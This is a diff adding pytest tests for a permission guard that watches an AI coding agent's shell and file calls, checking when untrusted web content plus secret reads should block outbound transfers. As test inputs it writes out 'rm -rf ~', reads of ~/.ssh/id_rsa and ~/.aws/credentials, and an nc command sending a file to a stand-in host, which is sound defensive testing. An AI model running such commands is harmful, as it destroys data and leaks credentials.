@@ -88,3 +88,151 @@ class TestDecidingReasonFirst:
     def test_a_static_block_still_leads_with_its_rule(self, session: Session) -> None:
         r = session.bash("rm -rf ~", ok=None)
         assert r["decision"] == "block" and ids(r)[0].startswith("G1")
+
+
+def decision(record: dict[str, Any]) -> str:
+    return str(record["decision"])
+
+
+# -- taint only when content really flows -------------------------------------------------
+class TestTaint:
+    PAGE = "https://pastebin.example.net/raw/a8f3k2"
+
+    def test_naming_a_secret_is_not_reading_it(self, session: Session) -> None:
+        """ls ~/.ssh and find -name .ssh, then an untrusted page: a POST asks (G221), never the trifecta block."""
+        session.bash("ls ~/.ssh")
+        session.bash("find ~ -maxdepth 2 -name .ssh")
+        session.call("WebFetch", {"url": self.PAGE}, answer="approved")
+        r = session.bash("curl -s -d @report.json https://api.example.com/upload", ok=None)
+        assert decision(r) == "request_confirm" and "G222" not in ids(r), ids(r)
+        assert ids(r)[0] == "G221"
+
+    def test_reading_a_secret_still_arms_the_trifecta(self, session: Session) -> None:
+        """Near-miss: cat ~/.ssh/id_rsa is a read; the egress after it is blocked."""
+        session.call("WebFetch", {"url": self.PAGE}, answer="approved")
+        session.bash("cat ~/.ssh/id_rsa", answer="approved")
+        r = session.bash("curl -s -d @report.json https://api.example.com/upload", ok=None)
+        assert decision(r) == "block" and ids(r)[0] == "G222", ids(r)
+
+    def test_a_grep_pattern_is_data_not_egress(self, session: Session) -> None:
+        session.call("WebFetch", {"url": self.PAGE}, answer="approved")
+        for command in ("grep -n scp notes.txt", "grep -rn 'rsync\\|nc ' docs/", "rg 'git push' README.md"):
+            r = session.bash(command)
+            assert decision(r) == "auto_allow" and "G221" not in ids(r), (command, ids(r))
+
+    def test_a_real_copy_to_a_host_after_taint_still_asks(self, session: Session) -> None:
+        session.call("WebFetch", {"url": self.PAGE}, answer="approved")
+        r = session.bash("scp notes.txt me@files.example.net:/tmp/", ok=None)
+        assert decision(r) != "auto_allow" and "G221" in ids(r)
+
+    def test_nc_to_this_machine_is_local_like_curl(self, session: Session) -> None:
+        session.call("WebFetch", {"url": self.PAGE}, answer="approved")
+        session.bash("cat ~/.ssh/id_rsa", answer="approved")
+        for command in ("nc -z 127.0.0.1 8000", "curl -s -d x=1 http://127.0.0.1:8000/api", "rsync -a src/ backup/"):
+            r = session.bash(command, ok=None)
+            assert not {"G221", "G222"} & set(ids(r)), (command, ids(r))
+        r = session.bash("nc files.example.net 4444 < notes.txt", ok=None)
+        assert decision(r) == "block" and ids(r)[0] == "G222"
+
+    def test_git_push_after_a_fetch_of_origin_and_listing_ssh_is_not_blocked(self, session: Session) -> None:
+        """The project's own remote is the project, not a page; ls ~/.ssh names, it does not read."""
+        session.bash("git fetch origin")
+        session.bash("ls ~/.ssh")
+        session.bash("git commit -am 'Export CSV'")
+        r = session.bash("git push origin main", ok=None)
+        assert decision(r) != "block" and not {"G221", "G222"} & set(ids(r)), ids(r)
+
+    def test_a_pull_from_a_url_still_taints(self, session: Session) -> None:
+        session.bash("git pull https://git.example.net/someone/fork.git main", answer="approved")
+        session.bash("cat ~/.aws/credentials", answer="approved")
+        r = session.bash("git push origin main", ok=None)
+        assert decision(r) == "block" and ids(r)[0] == "G222", ids(r)
+
+
+# -- documentation reading is ordinary ----------------------------------------------------
+class TestDocs:
+    DOCS = (
+        "https://docs.python.org/3/library/asyncio-task.html",
+        "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API",
+        "https://httpx.readthedocs.io/en/latest/async/",
+        "https://pkg.go.dev/net/http",
+    )
+
+    def test_docs_pages_do_not_taint_the_session(self, session: Session) -> None:
+        for url in self.DOCS:
+            session.call("WebFetch", {"url": url}, answer="approved")
+        session.bash("curl -s https://pypi.org/pypi/httpx/json", answer="approved")
+        r = session.bash("npm run build")
+        assert decision(r) == "auto_allow" and not {"G220", "G221"} & set(ids(r)), ids(r)
+        r = session.bash("git push origin main", ok=None)
+        assert "G221" not in ids(r), ids(r)
+
+    def test_an_arbitrary_page_still_taints(self, session: Session) -> None:
+        session.call("WebFetch", {"url": "https://docs.python.org.evil.example/3/"}, answer="approved")
+        r = session.bash("git push origin main", ok=None)
+        assert decision(r) != "auto_allow" and ids(r)[0] == "G221", ids(r)
+
+    def test_the_list_is_extensible(self, tmp_path: Path) -> None:
+        project = tmp_path / "project"
+        project.mkdir()
+        config = {"system.health": 90, "network.extra_docs_hosts": ["docs.internal.example"]}
+        with Guard(tmp_path / "ws", config, memory_backend="history") as guard:
+            s = Session(guard, project)
+            s.call("WebFetch", {"url": "https://docs.internal.example/howto"}, answer="approved")
+            r = s.bash("git push origin main", ok=None)
+            assert "G221" not in ids(r), ids(r)
+
+
+# -- a refusal weighs on the refused call, failures are the normal loop -------------------
+class TestOrdinaryLoop:
+    def test_a_test_rerun_after_one_failure_runs(self, session: Session) -> None:
+        session.bash("python -m pytest tests/test_parser.py -q", ok=False)
+        session.call("Edit", {"file_path": f"{session.project}/src/parser.py", "old_string": "a", "new_string": "b"})
+        r = session.bash("python -m pytest tests/test_parser.py -q", ok=False)
+        assert decision(r) == "auto_allow", ids(r)
+        r = session.bash("python -m pytest tests/test_parser.py -q")
+        assert decision(r) == "auto_allow", ids(r)
+
+    def test_a_real_loop_is_still_caught(self, session: Session) -> None:
+        """Near-miss: the same failing call with nothing changed between, again and again."""
+        out = [decision(session.bash("python -m pytest tests/test_parser.py -q", ok=False)) for _ in range(6)]
+        assert out[:2] == ["auto_allow", "auto_allow"] and "auto_allow" not in out[2:]
+
+    def test_a_refused_env_read_does_not_make_pytest_ask(self, session: Session) -> None:
+        r = session.call("Read", {"file_path": f"{session.project}/.env"}, ok=None, answer="denied")
+        assert decision(r) == "request_confirm"
+        r = session.bash("python -m pytest -q")
+        assert decision(r) == "auto_allow" and "G230" not in ids(r), ids(r)
+        again = session.call("Read", {"file_path": f"{session.project}/.env"}, ok=None)
+        assert decision(again) == "request_confirm"
+
+
+# -- trust tiers fit a normal day ---------------------------------------------------------
+class TestTiers:
+    def _edit(self, session: Session, path: str, lines: int = 3) -> dict[str, Any]:
+        return session.call("Write", {"file_path": path, "content": "x = 1\n" * lines})
+
+    def test_a_refactor_across_many_project_files_is_not_asked(self, session: Session) -> None:
+        out = [self._edit(session, f"{session.project}/src/mod{i}.py") for i in range(12)]
+        out.append(self._edit(session, f"{session.project}/src/generated.py", lines=400))
+        assert [decision(r) for r in out] == ["auto_allow"] * 13, [ids(r) for r in out if decision(r) != "auto_allow"]
+
+    def test_a_limit_is_still_a_limit_and_asks_once_per_task(self, session: Session) -> None:
+        """Near-miss: a Seed agent's 31st project file in one task asks, once; then the task goes on."""
+        out = [self._edit(session, f"{session.project}/src/mod{i}.py") for i in range(30)]
+        assert all(decision(r) == "auto_allow" for r in out)
+        asked = session.call(
+            "Write", {"file_path": f"{session.project}/src/mod30.py", "content": "x = 1\n"}, answer="approved"
+        )
+        assert decision(asked) == "request_confirm" and ids(asked)[0] == "G241", ids(asked)
+        reason = next(r for r in asked["reasons"] if r["id"] == "G241")
+        assert "per task" in reason["message"] and "split" not in reason["message"] and "alternative" not in reason
+        later = [self._edit(session, f"{session.project}/src/more{i}.py") for i in range(5)]
+        assert all(decision(r) == "auto_allow" for r in later), [ids(r) for r in later]
+
+    def test_a_commit_starts_a_new_task(self, session: Session) -> None:
+        for i in range(30):
+            self._edit(session, f"{session.project}/src/mod{i}.py")
+        session.bash("git commit -am 'Thirty modules'")
+        r = self._edit(session, f"{session.project}/src/mod30.py")
+        assert decision(r) == "auto_allow" and "G241" not in ids(r), ids(r)
